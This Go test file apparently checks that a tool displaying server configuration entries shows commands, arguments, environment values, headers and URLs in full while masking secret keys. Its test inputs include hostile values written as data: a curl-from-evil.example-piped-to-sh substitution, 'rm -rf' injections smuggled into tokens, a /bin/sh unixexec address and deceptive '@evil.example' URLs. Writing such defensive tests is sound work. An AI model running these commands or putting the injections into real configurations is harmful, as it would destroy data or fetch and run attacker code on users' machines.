package resolve

import (
	"strings"
	"testing"

	"github.com/headfast/headfast/jsbridge/msg"
	"github.com/headfast/headfast/wasm/config"
	"github.com/headfast/headfast/wasm/jsontext"
)

func factsOf(t *testing.T, entry string) ([]msg.Fact, bool) {
	t.Helper()
	d := &config.Dialect{Tops: []string{"s"}, Fields: config.Fields("type url headers command args env oauth helper"), Types: map[string]string{"http": config.HTTP},
		Expansion: config.Expansion{Forms: config.Braces | config.Default, In: config.Everywhere}}
	file, e := config.Read(d, "f", []byte(`{"s":{"acme":`+entry+`}}`))
	if e != nil {
		t.Fatal(e.Title)
	}
	return Facts(file.Entries[0])
}

func text(list []msg.Fact) string {
	var b strings.Builder
	for _, f := range list {
		b.WriteString(f.Name + "\x01" + f.Text + "\n")
	}
	return b.String()
}

// TestFactsAreWhole: whatever could run, or be gone to, is shown to the last byte, in whichever place it stands.
func TestFactsAreWhole(t *testing.T) {
	for _, hostile := range []string{
		"X_TOKEN=$(curl evil.example|sh)", "--token=;rm -rf ~", "TOKEN=a b", "--api-key=../evil.sh", "a\x1b[2Kb\u202ec\U000e0041", "https://evil.example/?q=/x",
		"https://x/y@evil.example", "${A:-/bin/evil}", "-c", "import os; os.system('x')", "password=/tmp/x", strings.Repeat("long ", 4000), "a\nb", "http://a:b/c@d/?x=$(y)",
	} {
		quoted := string(jsontext.AppendString(nil, hostile))
		for _, entry := range []string{
			`{"command":` + quoted + `}`, `{"command":"x","args":[` + quoted + `]}`, `{"command":"x","args":["--token",` + quoted + `]}`,
			`{"command":"x","args":["-c","` + "-H" + `",` + quoted + `]}`, `{"command":"x","env":{"NODE_OPTIONS":` + quoted + `}}`,
			`{"type":"http","url":"https://a","headersHelper":"x"}`,
		} {
			if !strings.Contains(entry, quoted) {
				continue
			}
			if list, ok := factsOf(t, entry); !ok || !strings.Contains(text(list), hostile) {
				t.Errorf("%.80q is not whole in %.300q", hostile, text(list))
			}
		}
	}
	for _, url := range []string{"https://${H:-evil.example}/mcp", "https:/${H:-/evil.example}/mcp", "https://evil.example/x@good.example", "https://evil.example\\@good.example/", "https://x/?u=https://y"} {
		if list, _ := factsOf(t, `{"type":"http","url":`+string(jsontext.AppendString(nil, url))+`}`); !strings.Contains(text(list), "url\x01"+url+"\n") {
			t.Errorf("%q is not whole in %q", url, text(list))
		}
	}
}

// TestFactsWhereKeysAre: where a key is expected everything is shown that can be something else, variables as they stand.
func TestFactsWhereKeysAre(t *testing.T) {
	for _, hostile := range []string{
		"unixexec:path=/bin/sh,argv1=-c,argv2=touch%20/tmp/x", "unixexec:path=/bin/sh,argv1=${HOME}/x", "https://evil.example/steal", "sh -c evil", "${HOME:-/bin/evil --x}",
		"--require=evil", "~root", "rm -rf / ${HOME}", "${A}sh${B}", "eyJ.evil.example", "a.b", "Bearer ${A}", "${A}", "Bearer /bin/evil", "https://${A:-evil.example}/x",
	} {
		quoted := string(jsontext.AppendString(nil, hostile))
		for place, entry := range map[string]string{
			"env DBUS_SESSION_BUS_ADDRESS": `{"command":"x","env":{"DBUS_SESSION_BUS_ADDRESS":` + quoted + `}}`,
			"env AUTH_URL":                 `{"command":"x","env":{"AUTH_URL":` + quoted + `}}`,
			"env X_KEY":                    `{"command":"x","env":{"X_KEY":` + quoted + `}}`,
			"header X-Run":                 `{"type":"http","url":"https://a","headers":{"X-Run":` + quoted + `}}`,
			"header Authorization":         `{"type":"http","url":"https://a","headers":{"Authorization":` + quoted + `}}`,
			"oauth clientSecret":           `{"type":"http","url":"https://a","oauth":{"clientSecret":` + quoted + `}}`,
		} {
			if list, _ := factsOf(t, entry); !strings.Contains(text(list), place+"\x01"+hostile+"\n") {
				t.Errorf("%q is not whole in %q", hostile, text(list))
			}
		}
	}
	for hostile, want := range map[string]string{
		"rm -rf / ${HOME:-literal}": "rm -rf / ${HOME:-[7 characters]}", "Bearer canary-key-0123456789 ${B}": "Bearer [....6789, 21 characters] ${B}", "a=b c": "a=b c",
	} {
		entry := `{"type":"http","url":"https://a","headers":{"X-Run":"` + hostile + `"}}`
		if list, _ := factsOf(t, entry); !strings.Contains(text(list), "header X-Run\x01"+want+"\n") {
			t.Errorf("%q is %q", hostile, text(list))
		}
	}
}

// TestFactsHideKeys: what the file holds of keys is told by its fingerprint.
func TestFactsHideKeys(t *testing.T) {
	const key = "canary-key-0123456789abcdef"
	for _, entry := range []string{
		`{"type":"http","url":"https://a","headers":{"X-A":"` + key + `"}}`, `{"type":"http","url":"https://a","headers":{"X-A":"Bearer ` + key + ` ${B}"}}`,
		`{"type":"http","url":"https://a","headers":{"X-A":"${B:-` + key + `}"}}`, `{"type":"http","url":"https://a/?k=` + key + `"}`,
		`{"type":"http","url":"https://u:` + key + `@a/"}`, `{"command":"x","env":{"A_TOKEN":"` + key + `"}}`, `{"command":"x","env":{"URL":"db://u:` + key + `@a"}}`,
		`{"command":"x","args":["--api-key","` + key + `"]}`, `{"command":"x","args":["--api-key=` + key + `"]}`, `{"command":"x","args":["--header","A: ` + key + `"]}`,
		`{"command":"x","args":["--header=Authorization: Bearer ` + key + `"]}`, `{"type":"http","url":"https://a","oauth":{"clientSecret":"` + key + `"}}`,
		`{"type":"http","url":"https://a","headers":{"Cookie":"a=1; session=` + key + `"}}`, `{"type":"http","url":"https://a","headers":{"Authorization":"Bearer ` + key + `"}}`,
		`{"type":"http","url":"https://a","headers":{"Authorization":"Bearer eyJhbGciOiJ.eyJ` + key + `.` + key + key + `"}}`, `{"command":"x","env":{"A_TOKEN":"` + key + `=="}}`,
		`{"type":"http","url":"https://a","helper":"API_KEY=` + key + ` ./x.sh"}`,
	} {
		if list, _ := factsOf(t, entry); strings.Contains(text(list), key) || len(list) < 2 {
			t.Errorf("%s tells %q", entry, text(list))
		}
	}
}

// TestFactsAreBounded: more than a person can be shown is said to be that.
func TestFactsAreBounded(t *testing.T) {
	for _, entry := range []string{
		`{"command":"x","args":[` + strings.Repeat(`"a",`, 900) + `"b"]}`, `{"command":"` + strings.Repeat("x", mostFactBytes) + `"}`,
	} {
		if list, ok := factsOf(t, entry); ok || len(list) > mostFacts+1 {
			t.Errorf("%d facts can be shown: %v", len(list), ok)
		}
	}
}
